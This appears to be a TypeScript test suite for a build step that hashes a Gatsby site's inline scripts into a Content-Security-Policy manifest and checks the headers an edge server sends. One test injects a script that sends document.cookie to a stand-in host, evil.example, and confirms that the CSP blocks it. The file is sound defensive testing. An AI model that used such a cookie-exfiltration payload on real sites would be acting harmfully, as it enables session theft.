import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { parseCspManifest } from "@worker/edge/csp-manifest";
import { FILES, testApp } from "@tests/kit/edge";
import { MARK_HIDDEN_BANNERS_SCRIPT } from "@site/lib/banner";
import { MARK_CONSENT_ANSWERED_SCRIPT } from "@site/lib/consent";
import { identity } from "./file-digests";
import { cspManifest, inlineScripts, scriptHash, writeCspManifest } from "./script-hashes";

const hash = scriptHash;

describe("inlineScripts: what a browser would run inline", () => {
  test("inline scripts without src and of a script type, each as written (data blocks, files and empty ones are not scripts)", () => {
    const html =
      '<script src="/app-1.js"></script><script>a()</script><script id="x">a()</script><script type="application/json">{}</script><script type="application/ld+json">{"@type":"Product"}</script><script> </script>';
    expect(inlineScripts(html)).toEqual(["a()", "a()"]);
  });

  test("script types a browser runs, in any case; the text ends at the first </script", () => {
    const html =
      '<SCRIPT TYPE="Text/JavaScript">b()</SCRIPT ><script type=module>c()</script/><script type="text/plain">d()</script><script data-x="a>b" async>e("</scrip")</script>';
    expect(inlineScripts(html)).toEqual(["b()", "c()", 'e("</scrip")']);
  });

  test("a src in another attribute's value does not make a script external; data-src is no src", () => {
    expect(inlineScripts('<script title="src=x">f()</script><script data-src="/x.js">g()</script>')).toEqual(["f()", "g()"]);
  });
});

describe("cspManifest", () => {
  test("distinct hashes, each page with the indexes of its own scripts", () => {
    const manifest = cspManifest([
      ["/index.html", "<script>shared()</script><script>home()</script>"],
      ["/de/parkett.html", "<script>shared()</script><script>shared()</script><script>parkett()</script>"],
      ["/404.html", "<p>no script</p>"],
    ]);
    expect(manifest).toEqual({
      version: 1,
      hashes: [hash("shared()"), hash("home()"), hash("parkett()")],
      pages: { "/index.html": [0, 1], "/de/parkett.html": [0, 2], "/404.html": [] },
    });
    expect(parseCspManifest(JSON.parse(JSON.stringify(manifest)))).toEqual(manifest);
  });

  test("hashes are of the UTF-8 bytes, as browsers compute them", () => {
    expect(scriptHash('t("Größe")')).toBe(createHash("sha256").update(Buffer.from('t("Größe")', "utf8")).digest("base64"));
  });
});

/** A page as the Gatsby build writes it: the first-paint script in <head>, Gatsby's loader and chunk map, JSON-LD, bundles. */
function builtPage(path: string): string {
  return [
    '<!DOCTYPE html><html lang="de" data-info-banner="0badc0de"><head><meta charSet="utf-8"/>',
    `<script>${MARK_CONSENT_ANSWERED_SCRIPT};${MARK_HIDDEN_BANNERS_SCRIPT}</script>`,
    '<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"Eiche \\u003cb\\u003e"}</script>',
    '</head><body><div id="___gatsby"><main><h1>Eiche</h1><div><p>Beschreibung</p></div></main></div>',
    `<script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath=${JSON.stringify(path)};/*]]>*/</script>`,
    '<script id="gatsby-chunk-mapping">/*<![CDATA[*/window.___chunkMapping="{\\"app\\":[\\"/app-0123.js\\"]}";/*]]>*/</script>',
    '<script src="/webpack-runtime-0123.js" async=""></script><script src="/app-0123.js" async=""></script></body></html>',
  ].join("");
}

describe("the manifest of a build, served by the edge", () => {
  let output: string;
  beforeEach(() => {
    output = mkdtempSync(join(tmpdir(), "csp-manifest-"));
  });
  afterEach(() => rmSync(output, { recursive: true, force: true }));

  const write = (file: string, content: string) => {
    mkdirSync(dirname(join(output, file)), { recursive: true });
    writeFileSync(join(output, file), content);
  };

  test("writeCspManifest lists every HTML file of the output and nothing else", () => {
    write("index.html", builtPage("/"));
    write("de/eiche-100001.html", builtPage("/de/eiche-100001.html"));
    write("app-0123.js", "<script>not html</script>");
    write("page-data/index/page-data.json", "{}");
    const manifest = writeCspManifest(output);
    expect(JSON.parse(readFileSync(join(output, "_csp.json"), "utf8"))).toEqual(manifest);
    expect(Object.keys(manifest.pages).sort()).toEqual(["/de/eiche-100001.html", "/index.html"]);
    // first-paint and chunk map shared, one loader script per page; JSON-LD is no script.
    expect(manifest.hashes).toHaveLength(4);
    expect(manifest.pages["/index.html"]).toHaveLength(3);
  });

  test("with a memo, a rebuild reads only the pages it rewrote and writes the same manifest as a full read", () => {
    const memo = join(output, "..", "csp-memo.json");
    write("index.html", builtPage("/"));
    write("a.html", builtPage("/a.html"));
    write("b.html", builtPage("/b.html"));
    const first = writeCspManifest(output, { memo });
    expect(first).toEqual(writeCspManifest(output));

    // What the memo says of a.html stands for its bytes while the file is the same (it is not read again):
    // a marker in its entry shows up in the next manifest. b.html, rewritten, is read again.
    const remembered = JSON.parse(readFileSync(memo, "utf8")) as Record<string, string[]>;
    const aKey = identity(join(output, "a.html"));
    expect(remembered[aKey]).toEqual(inlineScripts(builtPage("/a.html")).map(hash));
    writeFileSync(memo, JSON.stringify({ ...remembered, [aKey]: ["marker"] }));
    write("b.html", builtPage("/b.html").replace("<h1>", "<script>window.rebuilt = 1</script><h1>"));
    const second = writeCspManifest(output, { memo });
    expect(second.pages["/a.html"]!.map((index) => second.hashes[index])).toEqual(["marker"]);
    expect(second.pages["/b.html"]!.map((index) => second.hashes[index])).toEqual(inlineScripts(readFileSync(join(output, "b.html"), "utf8")).map(hash));
    expect(second.hashes).toContain(hash("window.rebuilt = 1"));

    // Without the memo (or with a.html rewritten) every page is read: the true manifest.
    write("a.html", builtPage("/a.html"));
    expect(writeCspManifest(output, { memo })).toEqual(writeCspManifest(output));
    expect(writeCspManifest(output).hashes).not.toContain("marker");
  });

  test("a <script> injected into a built page after the build is not allowed by the CSP the edge sends", async () => {
    write("index.html", builtPage("/"));
    writeCspManifest(output);
    const injected = "fetch('https://evil.example/?'+document.cookie)";
    const page = readFileSync(join(output, "index.html"), "utf8").replace("<h1>", `<script>${injected}</script><h1>`);
    const files = { ...FILES, "/DE/index.html": page, "/DE/_csp.json": readFileSync(join(output, "_csp.json"), "utf8") };
    const res = await testApp({ files }).request("http://de.localhost:8787/");
    expect(await res.text()).toContain(injected);
    const scriptSrc = /script-src ([^;]*)/.exec(res.headers.get("content-security-policy") ?? "")![1]!.split(" ");
    expect(scriptSrc).not.toContain(`'sha256-${hash(injected)}'`);
    const built = inlineScripts(builtPage("/"));
    expect(built).toHaveLength(3);
    for (const script of built) expect(scriptSrc).toContain(`'sha256-${hash(script)}'`);
    expect(scriptSrc.filter((source) => source.startsWith("'sha256-"))).toHaveLength(3);
  });
});
